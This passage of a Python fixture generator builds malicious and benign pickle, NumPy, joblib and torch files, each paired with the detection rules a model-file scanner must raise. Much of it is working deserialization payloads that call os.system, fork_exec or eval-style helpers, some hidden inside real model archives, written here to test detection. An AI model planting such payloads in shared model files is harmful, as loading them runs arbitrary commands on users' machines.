      pickle.dumps({"a": 1}, protocol=2) + pickle.dumps([1, 2], protocol=4) +
      gadget("os", "system", CMD), DENIED)
write("eva_junk_between.pkl",
      pickle.dumps({"a": 1}, protocol=2) + b"\x00\xffrandom junk bytes \x01\x02" * 4 +
      gadget("os", "system", CMD), DENIED + ",pickle.stream.junk")
write("eva_junk_then_p0.pkl",
      pickle.dumps({"a": 1}, protocol=2) + b"\xff\xfe\xfd junk " +
      glob("os", "system") + MARK + string(CMD) + TUPLE + REDUCE + STOP,
      DENIED + ",pickle.stream.junk")
write("eva_truncated_payload.pkl", proto(2) + glob("os", "system") + bu(CMD)[:3],
      DENIED + ",pickle.parse.error")
write("eva_frame_nested.pkl",
      proto(4) + b"\x95" + struct.pack("<Q", 40) + b"\x95" + struct.pack("<Q", 10) +
      gadget("os", "system", CMD)[2:], "pickle.frame.invalid," + DENIED)
write("eva_frame_past_end.pkl",
      proto(4) + b"\x95" + struct.pack("<Q", 100000) + gadget("os", "system", CMD)[2:],
      "pickle.frame.invalid," + DENIED)
write("eva_proto_twice.pkl", proto(2) + NONE + POP + proto(4) + gadget("os", "system", CMD)[2:],
      "pickle.proto.misplaced," + DENIED)
write("eva_get_flood.pkl",
      proto(2) + EMPTY_LIST + binput(0) + POP + EMPTY_LIST + MARK + binget(0) * 20000 +
      b"e" + STOP, "pickle.memo.expansion")
write("eva_dup_flood.pkl", proto(2) + NONE + b"2" * 200 + STOP,
      "pickle.memo.expansion")
write("eva_private_module.pkl", gadget("_posixsubprocess", "fork_exec", CMD),
      DENIED, ("_posixsubprocess", "fork_exec"))
write("eva_private_unknown.pkl", gadget("_json", "scanstring", "x", 0), "pickle.global.private",
      ("_json", "scanstring"))
write("eva_dotted_unknown.pkl", sgadget("collections", "OrderedDict.fromkeys", "ab"),
      "pickle.global.dotted", ("collections", "OrderedDict.fromkeys"))
write("eva_unknown_class.pkl", gadget("mylib.models", "Net"), UNKNOWN,
      ("mylib.models", "Net"))
write("eva_import_only.pkl", proto(2) + glob("os", "system") + POP + NONE + STOP, DENIED,
      ("os", "system"))
write("eva_call_result_called.pkl",
      proto(2) + glob("builtins", "getattr") + MARK + glob("os", "path") + bu("join") +
      TUPLE + REDUCE + bu("a") + TUPLE1 + REDUCE + STOP, DYNAMIC + "," + DENIED)
write("eva_nested_depth.pkl",
      proto(3) + glob("pickle", "loads") +
      binbytes(proto(3) + glob("pickle", "loads") + binbytes(gadget("os", "system", CMD)) +
               TUPLE1 + REDUCE + STOP) + TUPLE1 + REDUCE + STOP, DENIED + ",pickle.nested")
# Limits at their defaults: stack 100000, 1024 streams (check_pickle tries the others).
write("lim_stack.pkl", proto(2) + MARK * 100001 + STOP, "pickle.limit.stack,analysis.incomplete")
write("eva_memo_far_index.pkl",
      proto(4) + su("os") + b"r" + struct.pack("<I", 4000000000) + POP + su("system") +
      b"r" + struct.pack("<I", 3999999999) + POP + b"j" + struct.pack("<I", 4000000000) +
      b"j" + struct.pack("<I", 3999999999) + STACK_GLOBAL + su(CMD) + TUPLE1 + REDUCE + STOP,
      DENIED)     # CPython's C unpickler runs out of memory here; pickle.py's dict memo does not
write("lim_streams.pkl", (proto(2) + NONE + STOP) * 1100,
      "pickle.limit.streams,analysis.incomplete")

# ---- 3. hostile malformed files -----------------------------------------------------------

# A few good opcodes first: bytes that break at once are taken for data, not a pickle.
OK4 = proto(2) + EMPTY_DICT + binput(0) + POP + NONE + POP
write("bad_unknown_opcode.pkl", OK4 + b"\xff" + STOP, "pickle.parse.error")
write("bad_random_proto_start.bin", proto(2) + b"\xfe\x13\x99" + bytes(range(256)) * 4, "-")
write("bad_underflow.pkl", OK4 + REDUCE + STOP, "pickle.parse.error")
write("bad_no_stop.pkl", OK4 + EMPTY_DICT + bu("a"), "pickle.parse.error")
write("bad_proto_9.pkl", OK4 + NONE + b"\x80\x09" + STOP, "pickle.parse.error")
write("bad_binbytes8_huge.pkl", OK4 + b"\x8e" + struct.pack("<Q", 1 << 40) + b"abc",
      "pickle.parse.error")
write("bad_long4_negative.pkl", OK4 + b"\x8b" + struct.pack("<i", -5) + STOP,
      "pickle.parse.error")
write("bad_setitems_odd.pkl", OK4 + EMPTY_DICT + MARK + bu("a") + SETITEMS + STOP,
      "pickle.parse.error")
write("bad_string_unquoted.pkl", OK4 + b"Sos\n.", "pickle.parse.error")
write("bad_obj_empty.pkl", OK4 + MARK + OBJ + STOP, "pickle.parse.error")
write("bad_reduce_not_tuple.pkl", proto(2) +
      glob("os", "system") + bu(CMD) + REDUCE + STOP, "pickle.structure.invalid," + DENIED)
write("bad_call_string.pkl", proto(2) + bu("os") + EMPTY_TUPLE + REDUCE + STOP,
      "pickle.structure.invalid")
write("bad_npy_eval.npy",
      b"\x93NUMPY\x01\x00" + struct.pack("<H", 70) +
      b"{'descr': __import__('os').system('id'), 'shape': (1,)}".ljust(69) + b"\n",
      "numpy.header.invalid")
write("bad_npy_keys.npy", npy_header("<f4", (1,)).replace(b"'fortran_order'", b"'fortran_ordex'") +
      b"\0" * 4, "numpy.header.invalid")
write("bad_npy_shape.npy", npy_header("<f4", (-1,)) + b"\0" * 4, "numpy.header.invalid")
write("bad_npy_dtype.npy", npy_header("<q9", (1,)) + b"\0" * 4, "numpy.header.invalid")
write("bad_npy_version.npy", b"\x93NUMPY\x07\x00" + b"\0" * 64, "numpy.header.invalid")
write("bad_npy_truncated_header.npy", npy_header("<f4", (2,))[:30], "numpy.header.invalid")
write("bad_npy_trailing.npy", npy_header("<f4", (2,)) + b"\0" * 8 + gadget("os", "system", CMD),
      "numpy.size.mismatch")
write("bad_npy_short.npy", npy_header("<f4", (100,)) + b"\0" * 8, "numpy.size.mismatch")
write("bad_npy_huge_shape.npy",
      npy_header("<f8", (1 << 62, 1 << 62)) + b"\0" * 8, "numpy.header.invalid")
write("bad_joblib_zlib_corrupt.joblib.z",
      zlib.compress(pickle.dumps({"a": 1}, protocol=4))[:12] + b"\xff" * 40,
      "joblib.zlib.invalid,pickle.parse.error,analysis.incomplete")
write("bad_joblib_zlib_payload.joblib.z", zlib.compress(gadget("os", "system", CMD)),
      DENIED)
write("bad_joblib_wrapper_state.joblib",
      proto(2) + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ +
      EMPTY_DICT + bu("shape") + bu("not a shape") + SETITEM + BUILD + STOP,
      "joblib.array.invalid,analysis.incomplete")
write("bad_legacy_storage_short.pt",
      legacy(proto(2) + glob("torch._utils", "_rebuild_tensor_v2") + MARK + MARK +
             bu("storage") + glob("torch", "FloatStorage") + bu("0") + bu("cpu") +
             b"K\x04" + NONE + TUPLE + b"Q" + b"K\x00" + b"K\x04" + TUPLE1 + b"K\x01" +
             TUPLE1 + NEWFALSE + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE +
             TUPLE + REDUCE + STOP)[:-len(pickle.dumps([], protocol=2))] +
      pickle.dumps(["0"], protocol=2) + struct.pack("<Q", 4) + b"\0" * 3,
      "torch.legacy.storage")

# ---- 5. the allowlist is the gate: re-exports, private helpers, string evaluators ------
# (issue 8) A callable on neither list fails; these are the ways past a deny list that the
# export lines of pickle-alias.txt and the deny list's private and string-evaluating entries
# close, and the structures no pickler writes.
BUILD_DUNDER = "pickle.build.dunder"
PERSID = "torch.persid.invalid"
EVAL = "__import__('os').system('id')"

# Re-exports: the same function under another module's name.
write("re_model_zoo_load_url.pkl",
      gadget("torch.utils.model_zoo", "load_url", "http://example.invalid/m.pt"), DENIED,
      ("torch.utils.model_zoo", "load_url"))
write("re_numpy_lib_load.pkl", gadget("numpy.lib", "load", "x.npy", True), DENIED,
      ("numpy.lib", "load"))
write("re_sklearn_joblib_load.pkl", gadget("sklearn.utils._joblib", "load", "x.joblib"),
      DENIED, ("sklearn.utils._joblib", "load"))
write("re_sympy_euler_sympify.pkl", gadget("sympy.calculus.euler", "sympify", EVAL), DENIED,
      ("sympy.calculus.euler", "sympify"))
write("re_resnet_partial_loader.pkl",
      proto(2) + glob("torchvision.models.resnet", "partial") + MARK +
      glob("sklearn.utils._joblib", "load") + bu("x.joblib") + TUPLE + REDUCE +
      EMPTY_TUPLE + REDUCE + STOP, DENIED + "," + DYNAMIC,
      ("torchvision.models.resnet", "partial"))

# Private submodules of trusted packages.
write("priv_torch_import_dotted.pkl", gadget("torch._utils", "_import_dotted_name",
                                             "os.system"), DENIED,
      ("torch._utils", "_import_dotted_name"))
write("priv_sklearn_testing.pkl",
      gadget("sklearn.utils._testing", "assert_run_python_script", "import os"), DENIED,
      ("sklearn.utils._testing", "assert_run_python_script"))
write("priv_torch_testing_shell.pkl",
      gadget("torch.testing._internal.common_utils", "shell", [CMD]), DENIED,
      ("torch.testing._internal.common_utils", "shell"))
write("priv_numpy_pytesttester.pkl", gadget("numpy._pytesttester", "PytestTester", "numpy"),
      DENIED, ("numpy._pytesttester", "PytestTester"))
write("priv_torch_unknown_helper.pkl",
      gadget("torch._utils", "_flatten_dense_tensors", None), UNKNOWN,
      ("torch._utils", "_flatten_dense_tensors"))
write("priv_torch_ops_load_library.pkl",
      gadget("torch", "ops.load_library", "/tmp/x.so"), DENIED, ("torch", "ops.load_library"))

# Helpers that evaluate strings: typing's forward references and SymPy's parser.
write("eval_typing_get_type_hints.pkl", gadget("typing", "get_type_hints", EVAL), DENIED,
      ("typing", "get_type_hints"))
write("eval_typing_forwardref.pkl",
      proto(2) + glob("typing", "_eval_type") + MARK + glob("typing", "ForwardRef") + MARK +
      bu(EVAL) + TUPLE + REDUCE + NONE + NONE + TUPLE + REDUCE + STOP, DENIED,
      ("typing", "ForwardRef"))
write("eval_sympy_s.pkl", gadget("sympy", "S", EVAL), DENIED, ("sympy", "S"))
write("eval_sympy_parse_expr.pkl",
      gadget("sympy.parsing.sympy_parser", "parse_expr", EVAL), DENIED,
      ("sympy.parsing.sympy_parser", "parse_expr"))

# BUILD that sets dunder attributes. The first BUILD puts __setstate__ in the object's
# __dict__; the second BUILD calls it (here with allowlisted callables only).
OD = glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
write("dunder_build_setstate.pkl",
      proto(2) + OD + EMPTY_DICT + bu("__setstate__") + glob("collections", "Counter") +
      SETITEM + BUILD + bu(CMD) + BUILD + STOP, BUILD_DUNDER,
      ("collections", "Counter"))
write("dunder_build_class_slotstate.pkl",
      proto(2) + OD + MARK + NONE + EMPTY_DICT + bu("__class__") +
      glob("collections", "Counter") + SETITEM + TUPLE + BUILD + STOP, BUILD_DUNDER)
write("dunder_build_memo_copy.pkl",
      proto(2) + OD + EMPTY_DICT + binput(5) + MARK + bu("a") + NONE + bu("__reduce__") +
      glob("collections", "Counter") + SETITEMS + POP + binget(5) + BUILD + STOP,
      BUILD_DUNDER)
write("dunder_build_annotations.pkl",
      proto(2) + glob("argparse", "Namespace") + EMPTY_TUPLE + REDUCE + EMPTY_DICT +
      bu("__annotations__") + EMPTY_DICT + bu("x") + bu(EVAL) + SETITEM + SETITEM + BUILD +
      STOP, BUILD_DUNDER)
# Keys that look like dunders in plain data are not attributes: benign.
write("ok_dunder_keys_in_data.pkl",
      pickle.dumps({"__version__": "1.0", "__metadata__": {"format": "pt"}}, protocol=4),
      "-")

# INST and OBJ on classes no list knows: the class runs on load.
write("unknown_inst_class.pkl", MARK + string("x") + inst("mylib.models", "Net") + STOP,
      UNKNOWN, ("mylib.models", "Net"))
write("unknown_obj_class.pkl",
      proto(2) + MARK + glob("mylib.models", "Net") + bu("x") + OBJ + STOP, UNKNOWN,
      ("mylib.models", "Net"))
write("unknown_main_class.pkl",
      proto(2) + glob("__main__", "Net") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BUILD + STOP,
      UNKNOWN, ("__main__", "Net"))

# getattr walks and functools.partial, judged by their arguments.
write("walk_getattr_dunder.pkl",
      proto(2) + glob("builtins", "getattr") + MARK + glob("torch.nn.modules.linear",
                                                           "Linear") +
      bu("__init__") + TUPLE + REDUCE + STOP, DENIED, ("builtins", "getattr"))
write("walk_getattr_method.pkl",
      proto(2) + glob("builtins", "getattr") + MARK + glob("torch.nn.modules.linear",
                                                           "Linear") +
      bu("forward") + TUPLE + REDUCE + STOP, "pickle.global.dotted")
write("walk_getattr_computed.pkl",
      proto(2) + glob("builtins", "getattr") + MARK + OD + bu("pop") + TUPLE + REDUCE + STOP,
      DENIED)
write("partial_unknown.pkl",
      proto(2) + glob("functools", "partial") + MARK + glob("mylib", "f") + TUPLE + REDUCE +
      STOP, DENIED + "," + UNKNOWN)
write("partial_build_swap.pkl",
      proto(2) + glob("functools", "partial") + MARK + glob("torch.nn.modules.linear",
                                                           "Linear") +
      TUPLE + REDUCE + MARK + OD + EMPTY_TUPLE + NONE + NONE + TUPLE + BUILD + STOP, DENIED)
write("ok_partial_allowed.pkl",
      proto(2) + glob("functools", "partial") + MARK + glob("torch.nn.modules.linear",
                                                           "Linear") +
      TUPLE + REDUCE + MARK + glob("torch.nn.modules.linear", "Linear") + EMPTY_TUPLE +
      EMPTY_DICT + NONE + TUPLE + BUILD + STOP, "-")

# Persistent ids torch.load would not take, in a torch.save zip and a legacy file.
STORAGE = glob("torch", "FloatStorage")
write("persid_module_in_zip.pt",
      torch_zip(proto(2) + MARK + bu("module") + glob("collections", "OrderedDict") +
                bu("x.py") + bu("src") + TUPLE + b"Q" + EMPTY_TUPLE + NEWOBJ + STOP),
      PERSID + ",pickle.callable.dynamic")
write("persid_storage_type_eval.pt",
      torch_zip(proto(2) + MARK + bu("storage") + glob("builtins", "eval") + bu("0") +
                bu("cpu") + b"K\x04" + TUPLE + b"Q" + STOP), PERSID + "," + DENIED)
write("persid_storage_extra.pt",
      torch_zip(proto(2) + MARK + bu("storage") + STORAGE + bu("0") + bu("cpu") +
                b"K\x04" + NONE + bu("x") + TUPLE + b"Q" + STOP), PERSID)
write("persid_string_in_zip.pt", torch_zip(proto(2) + bu("storage/0") + b"Q" + STOP), PERSID)
write("persid_legacy_module_computed.pt",
      legacy(proto(2) + MARK + bu("module") + OD + bu("x.py") + bu("src") + TUPLE + b"Q" +
             EMPTY_TUPLE + NEWOBJ + STOP), PERSID + ",pickle.callable.dynamic")

# ---- 4. benign files, as the libraries write them ------------------------------------------

for p in range(6):
    write("ok_builtin_p%d.pkl" % p,
          pickle.dumps({"name": "model", "sizes": [1, 2, 3], "ratio": 0.5, "flag": True,
                        "t": (1, "a"), "s": {1, 2}, "b": b"\x00\x01", "none": None},
                       protocol=p), "-")
write("ok_ordered_dict.pkl",
      pickle.dumps(collections.OrderedDict(a=1, b=[1, 2]), protocol=2), "-")
write("ok_two_streams.pkl", pickle.dumps([1, 2], protocol=2) + pickle.dumps("x", protocol=0),
      "-")
write("ok_bytearray_p5.pkl", pickle.dumps(bytearray(b"abc"), protocol=5), "-")
write("ok_long_strings.pkl", pickle.dumps(["x" * 5000, b"y" * 20000, "z" * 300], protocol=4),
      "-")
write("ok_many_objects.pkl",
      pickle.dumps([{"id": i, "v": [i, i * 0.5], "n": "obj%d" % i} for i in range(800)],
                   protocol=4), "-")
write("ok_base64_text.pkl", pickle.dumps({"note": base64.b64encode(b"hello world " * 10).decode()},
                                         protocol=4), "-")

def legacy_tar():
    """The oldest torch format (a tar of sys_info, pickle, storages, tensors)."""
    def member(tf, name, data):
        ti = tarfile.TarInfo(name)
        ti.size = len(data)
        ti.mtime = 0
        tf.addfile(ti, io.BytesIO(data))

    storages = pickle.dumps(1, protocol=2)
    storages += (proto(2) + bu("0") + bu("cpu") + glob("torch", "FloatStorage") + TUPLE3 +
                 STOP)
    storages += struct.pack("<Q", 2) + b"\0" * 8
    storages += pickle.dumps([], protocol=2)
    tensors = pickle.dumps(1, protocol=2)
    tensors += proto(2) + bu("1") + bu("0") + glob("torch", "FloatTensor") + TUPLE3 + STOP
    tensors += struct.pack("<i", 1) + b"\0" * 4 + struct.pack("<qqq", 2, 1, 0)
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.PAX_FORMAT) as tf:
        member(tf, "sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                            "type_sizes": {"short": 2, "int": 4, "long": 8}},
                                           protocol=2))
        member(tf, "pickle", proto(2) + EMPTY_DICT + bu("w") + bu("1") + b"Q" + SETITEM + STOP)
        member(tf, "storages", storages)
        member(tf, "tensors", tensors)
    return bio.getvalue()


write("ok_legacy_tar.pt", legacy_tar(), "-")

def tar_payload():
    bio = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(legacy_tar())) as src, \
            tarfile.open(fileobj=bio, mode="w", format=tarfile.PAX_FORMAT) as dst:
        for ti in src.getmembers():
            data = src.extractfile(ti).read()
            if ti.name == "storages":
                data = gadget("os", "system", CMD) + data[len(pickle.dumps(1, protocol=2)):]
            ti.size = len(data)
            dst.addfile(ti, io.BytesIO(data))
    return bio.getvalue()


write("cat_legacy_tar_payload.pt", tar_payload(),
      DENIED + ",torch.legacy.storage,pickle.stream.junk")

# Written by the libraries themselves when they are here.
try:
    import torch

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 2), torch.nn.ReLU())
    torch.save(net.state_dict(), os.path.join(OUT, "ok_torch_state_dict.pt"))
    torch.save(net.state_dict(), os.path.join(OUT, "ok_torch_legacy.pt"),
               _use_new_zipfile_serialization=False)
    torch.save(net, os.path.join(OUT, "ok_torch_full_model.pt"))
    torch.save({"t": torch.tensor([0x80, 0x02, 0x63, 0x6F, 0x73, 0x0A], dtype=torch.uint8),
                "step": 3, "opt": {"lr": 0.1}},
               os.path.join(OUT, "ok_torch_pickle_like_storage.pt"))
    torch.jit.script(net).save(os.path.join(OUT, "torchscript_model.pt"))
except ImportError:
    pass
keep("ok_torch_state_dict.pt", "-")
keep("ok_torch_legacy.pt", "-")
keep("ok_torch_full_model.pt", "-")
keep("ok_torch_pickle_like_storage.pt", "-")
keep("torchscript_model.pt", "torch.torchscript.code,exec.code.member")

try:
    import numpy as np

    np.save(os.path.join(OUT, "ok_npy_float.npy"), np.arange(12, dtype="<f4").reshape(3, 4))
    np.save(os.path.join(OUT, "ok_npy_struct.npy"),
            np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8", (2,)), ("c", "S3")]))
    np.save(os.path.join(OUT, "ok_npy_unicode_fortran.npy"),
            np.asfortranarray(np.array([["ab", "c"], ["d", "efg"]])))
    np.save(os.path.join(OUT, "ok_npy_scalar.npy"), np.float64(3.5))
    np.save(os.path.join(OUT, "ok_npy_empty.npy"), np.zeros((0, 3)))
    np.save(os.path.join(OUT, "npy_object.npy"),
            np.array([{"a": 1}, "x", None], dtype=object), allow_pickle=True)
    np.savez(os.path.join(OUT, "ok_npz.npz"), a=np.arange(5), b=np.ones((2, 2)))
    np.savez_compressed(os.path.join(OUT, "ok_npz_compressed.npz"), a=np.arange(50))
except ImportError:
    pass
keep("ok_npy_float.npy", "-")
keep("ok_npy_struct.npy", "-")
keep("ok_npy_unicode_fortran.npy", "-")
keep("ok_npy_scalar.npy", "-")
keep("ok_npy_empty.npy", "-")
keep("npy_object.npy", "numpy.object.array")
keep("ok_npz.npz", "-")
keep("ok_npz_compressed.npz", "-")

try:
    import joblib
    import numpy as np

    obj = {"w": np.arange(10.0), "i": np.arange(6, dtype=np.int16).reshape(2, 3),
           "s": "hello", "o": np.array([1, "a"], dtype=object),
           "od": collections.OrderedDict(x=1)}
    joblib.dump(obj, os.path.join(OUT, "ok_joblib.joblib"))
    joblib.dump(obj, os.path.join(OUT, "ok_joblib_p5.joblib"), protocol=5)
    for comp in ("zlib", "gzip", "bz2", "xz", "lzma"):
        joblib.dump(obj, os.path.join(OUT, "ok_joblib_%s.joblib" % comp), compress=(comp, 3))
except ImportError:
    pass
keep("ok_joblib.joblib", "-")
keep("ok_joblib_p5.joblib", "-")
for comp in ("zlib", "gzip", "bz2", "xz", "lzma"):
    keep("ok_joblib_%s.joblib" % comp, "-")

# A malicious joblib: the payload sits in the pickle around a real array wrapper.
if os.path.exists(os.path.join(OUT, "ok_joblib.joblib")):
    with open(os.path.join(OUT, "ok_joblib.joblib"), "rb") as f:
        real = f.read()
    write("cat_joblib_payload.joblib", real + gadget("os", "system", CMD), DENIED)
    write("cat_joblib_gzip_payload.joblib.gz",
          __import__("gzip").compress(gadget("os", "system", CMD), mtime=0), DENIED)

with open(os.path.join(OUT, "expected.tsv"), "w") as f:
    f.write("# fixture<TAB>rules it must raise (comma list), or - for benign (nothing above "
            "info). Written by gen-pickles.py.\n")
    for name, rules in EXPECTED:
        f.write("%s\t%s\n" % (name, rules))
print("%d fixtures" % len(EXPECTED))
